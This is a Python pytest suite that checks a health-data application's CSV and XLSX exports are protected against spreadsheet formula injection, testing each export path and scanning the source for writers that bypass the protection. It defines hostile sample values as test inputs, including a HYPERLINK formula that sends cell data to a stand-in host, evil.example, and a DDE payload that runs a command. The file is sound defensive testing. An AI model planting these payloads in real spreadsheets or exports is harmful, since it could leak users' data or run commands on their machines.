"""Formula injection (issue 17): no CSV or XLSX SIGAP writes has a live formula. A cell
starting with = + - @ tab or CR is written as text behind a quote (OWASP); real numbers stay
numbers. One core writer (sigap.core.exports) is used by every export path, checked here path
by path and by a scan of the source for writers that bypass it."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.test import RequestFactory
from openpyxl import load_workbook

from sigap.core import exports
from tests.beds.conftest import make_hospital, semarang  # noqa: F401 - fixtures
from tests.coverage.conftest import KEL_A, POP_HEADER, person

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
ATTACKS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_text_is_quoted(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-5, -2.5, 0, 3, "-12.5", "-3", "+6281234567", "-1,5", "abc", "", None, "a=b"]
)
def test_numbers_and_plain_text_are_kept(value):
    assert exports.neutralise(value) == value


def test_csv_writer_and_text():
    buf = io.StringIO()
    w = exports.csv_writer(buf)
    w.writerow(["h1", "h2"])
    w.writerows([[EVIL, -5], ["ok", "-1.5"]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["h1", "h2"], ["'" + EVIL, "-5"], ["ok", "-1.5"]]
    assert exports.csv_text(["a"], [["@x"]]).splitlines() == ["a", "'@x"]


def test_xlsx_has_no_formula_and_keeps_numbers():
    data = exports.xlsx_bytes("s", ["=h"], [[EVIL, -5, 2.5, None], ["-1.5", "ok"]])
    ws = load_workbook(io.BytesIO(data)).active
    cells = [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]
    assert cells[0][0] == ("'=h", "s")
    assert cells[1][:3] == [("'" + EVIL, "s"), (-5, "n"), (2.5, "n")]
    assert cells[2][:2] == [("-1.5", "s"), ("ok", "s")]
    assert not any(t == "f" for row in cells for _v, t in row)


def test_sql_and_polars_forms_follow_the_same_rule():
    import duckdb
    import polars as pl

    values = [*ATTACKS, "-12.5", "abc", "", None]
    expected = [exports.neutralise(v) for v in values]
    con = duckdb.connect()
    con.execute("CREATE TABLE t (a VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?)", [[v] for v in values])
    query = f"SELECT {exports.neutralise_sql('a')} FROM t"  # noqa: S608 - a fixed column
    got = [r[0] for r in con.execute(query).fetchall()]
    assert got == expected
    frame = pl.DataFrame({"a": values, "n": [-1] * len(values)})
    out = exports.neutralise_frame(frame)
    assert out["a"].to_list() == expected and out["n"].to_list() == [-1] * len(values)


# --- every export path --------------------------------------------------------------------


@pytest.mark.django_db
def test_bed_board_export_csv_and_xlsx(client, make_hospital):  # noqa: F811
    from sigap.beds import selectors, services

    rs = make_hospital(EVIL)
    services.upsert_room(
        services.Actor.system("test"),
        rs,
        services.RoomInput(bed_class="KL3", code="K3", name="Ruang", capacity=10, free=4),
        source="api",
    )
    selectors.reset_snapshot()
    text = client.get("/api/v1/public/beds/export", {"format": "csv"}).content.decode()
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0].endswith(EVIL))
    assert row[0] == "'" + EVIL
    data = client.get("/api/v1/public/beds/export", {"format": "xlsx"}).content
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for r in ws.iter_rows() for c in r]
    assert any(c.value == "'" + EVIL for c in cells)
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == 4 and c.data_type == "n" for c in cells)  # free beds: a number


@pytest.mark.django_db
def test_coverage_rejection_report_csv_and_xlsx(client, make_user, semarang):  # noqa: F811
    """The issue's case: a population file whose NIK cell is a formula is rejected, and the
    rejection report (CSV and XLSX) shows the text, not a live link."""
    from sigap.coverage.models import Snapshot

    client.force_login(make_user("analis", "analyst", area_code="3374"))
    good = person("337401", date(1990, 1, 2), 51, KEL_A)
    lines = [",".join(POP_HEADER), ",".join(good)]
    lines.append(",".join(['"' + EVIL.replace('"', '""') + '"', *good[1:]]))
    upload = io.BytesIO(("\n".join(lines) + "\n").encode())
    upload.name = "penduduk.csv"
    r = client.post(
        "/dinkes/jkn/impor/", {"jenis": "population", "periode": "2026-05", "berkas": upload}
    )
    assert r.status_code == 302, r.content.decode()[:500]
    assert Snapshot.objects.get().rows_rejected == 1
    page = r["Location"]
    text = client.get(page + "?format=csv").content.decode()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    risky = [c for c in cells if c and c[0] in "=+-@\t\r" and not re.fullmatch(r"-?\d+", c)]
    assert risky == [] and any(c.startswith("'=") for c in cells), cells
    data = client.get(page + "?format=xlsx").content
    ws = load_workbook(io.BytesIO(data)).active
    values = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in values)
    assert any(str(c.value).startswith("'=") for c in values)


def test_coverage_compute_report_csv(tmp_path):
    """`sigap coverage compute`: the kelurahan code comes from the population file."""
    from sigap.coverage import engine

    pop = tmp_path / "p.csv"
    pop.write_text("nik,kelurahan_code,status\n3374010101900001,=1+2,alive\n")
    mem = tmp_path / "m.csv"
    mem.write_text("nik,active\n3374010101900001,1\n")
    out = tmp_path / "out.csv"
    engine.compute_coverage(pop, mem, out)
    rows = list(csv.reader(out.open()))
    assert rows[0][0] == "kelurahan_code"
    assert rows[1] == ["'=1+2", "1", "1", "1", "0"]


def test_nutrition_rejection_report_csv():
    from sigap.nutrition.importer import ImportReport, Rejection

    report = ImportReport(rejected=[Rejection(3, EVIL, "-" + EVIL), Rejection(4, "Berat", "x")])
    rows = list(csv.reader(io.StringIO(report.rejections_csv())))
    assert rows[1] == ["3", "'" + EVIL, "'-" + EVIL] and rows[2] == ["4", "Berat", "x"]


def test_growth_file_output(tmp_path):
    from sigap.nutrition import growthfile

    src = tmp_path / "in.csv"
    src.write_text(
        "id,nama,sex,age_days,weight_kg,length_cm,measured\n"
        f'1,"{EVIL.replace(chr(34), 2 * chr(34))}",1,400,9.5,75,L\n'
    )
    out = tmp_path / "out.csv"
    growthfile.zscores_file(src, out)
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["nama"] == "'" + EVIL
    assert float(rows[0]["weight_kg"]) == 9.5  # numbers stay numbers
    assert any(v.startswith("-") or v.replace(".", "").isdigit() for v in rows[0].values())


def test_emergency_response_report_csv(rf_user):
    from django.utils import timezone

    from sigap.emergency.views import _report_csv

    row = {
        "number": "PSC-1", "received_at": timezone.now(), "triage": "merah",
        "category": "medical", "status": "closed", "kecamatan": EVIL, "kelurahan": "+x",
        "rural": False, "call_to_dispatch": -1.25, "response": 9.0, "scene_to_hospital": None,
        "target": 15, "within_target": True,
    }  # fmt: skip
    resp = _report_csv(rf_user, {"rows": [row]}, "3374", date(2026, 5, 1))
    got = list(csv.reader(io.StringIO(resp.content.decode())))[1]
    assert got[5:7] == ["'" + EVIL, "'+x"] and got[8] == "-1.2"


@pytest.mark.django_db
def test_referral_fairness_csv(rf_user):
    from sigap.referrals.views import _fairness_csv

    group = {"payer": "bpjs", "offers": 3, "accepted": 1, "rate": -0.5, "answer_median": 2,
             "wait_median": None}  # fmt: skip
    hospital = {"name": EVIL, "groups": [group], "p_adj": {}, "flagged": False}
    resp = _fairness_csv(rf_user, {"hospitals": [hospital]}, 30, "3374")
    got = list(csv.reader(io.StringIO(resp.content.decode())))[1]
    assert got[0] == "'" + EVIL and got[4] == "-0.5"


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_nutrition_prevalence_export(client, make_user, monkeypatch, fmt):
    """The table's rows are swapped for hostile ones: the view writes them formula-safe."""
    import sigap.nutrition.views as views

    monkeypatch.setattr(views.selectors, "dashboard", lambda *a, **k: {})
    monkeypatch.setattr(views, "export_rows", lambda dash: (["wilayah", "z"], [[EVIL, -1.5]]))
    client.force_login(make_user("analis-n", "analyst", area_code="3374"))
    r = client.get("/gizi/ekspor/", {"format": fmt})
    assert r.status_code == 200
    if fmt == "csv":
        assert list(csv.reader(io.StringIO(r.content.decode())))[1] == ["'" + EVIL, "-1.5"]
    else:
        ws = load_workbook(io.BytesIO(r.content)).active
        row = [(c.value, c.data_type) for c in list(ws.iter_rows())[1]]
        assert row == [("'" + EVIL, "s"), (-1.5, "n")]


@pytest.fixture
def rf_user(db, make_user):
    request = RequestFactory().get("/")
    request.user = make_user("analis-x", "analyst", area_code="3374")
    return request


# --- no writer bypasses the core one ------------------------------------------------------

WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|\.write_csv\(|\.write_excel\(|\bto_csv\(|COPY \("
)
# files SIGAP writes only to read back itself (values must stay exactly as given)
INTERNAL = {
    "sigap/coverage/engine.py": 1,  # csv.writer: the XLSX upload spooled to CSV for DuckDB
    "sigap/coverage/demo.py": 1,  # csv.writer: the demo's synthetic input files
}


def test_every_writer_goes_through_core_exports():
    root = Path(exports.__file__).resolve().parents[2]
    found: dict[str, list[str]] = {}
    for path in sorted((root / "sigap").rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if rel == "sigap/core/exports.py" or "/migrations/" in rel:
            continue
        for line in path.read_text().splitlines():
            if WRITERS.search(line) and not line.lstrip().startswith("#"):
                found.setdefault(rel, []).append(line.strip())
    unsafe = {}
    for rel, lines in found.items():
        raw = [ln for ln in lines if "neutralise" not in ln and "exports." not in ln]
        raw = [ln for ln in raw if not ln.startswith(("from openpyxl", "import"))]
        if rel == "sigap/coverage/engine.py":
            raw = [ln for ln in raw if not ln.startswith('con.execute(f"COPY (SELECT {code}')]
        if len(raw) > INTERNAL.get(rel, 0):
            unsafe[rel] = raw
    assert unsafe == {}
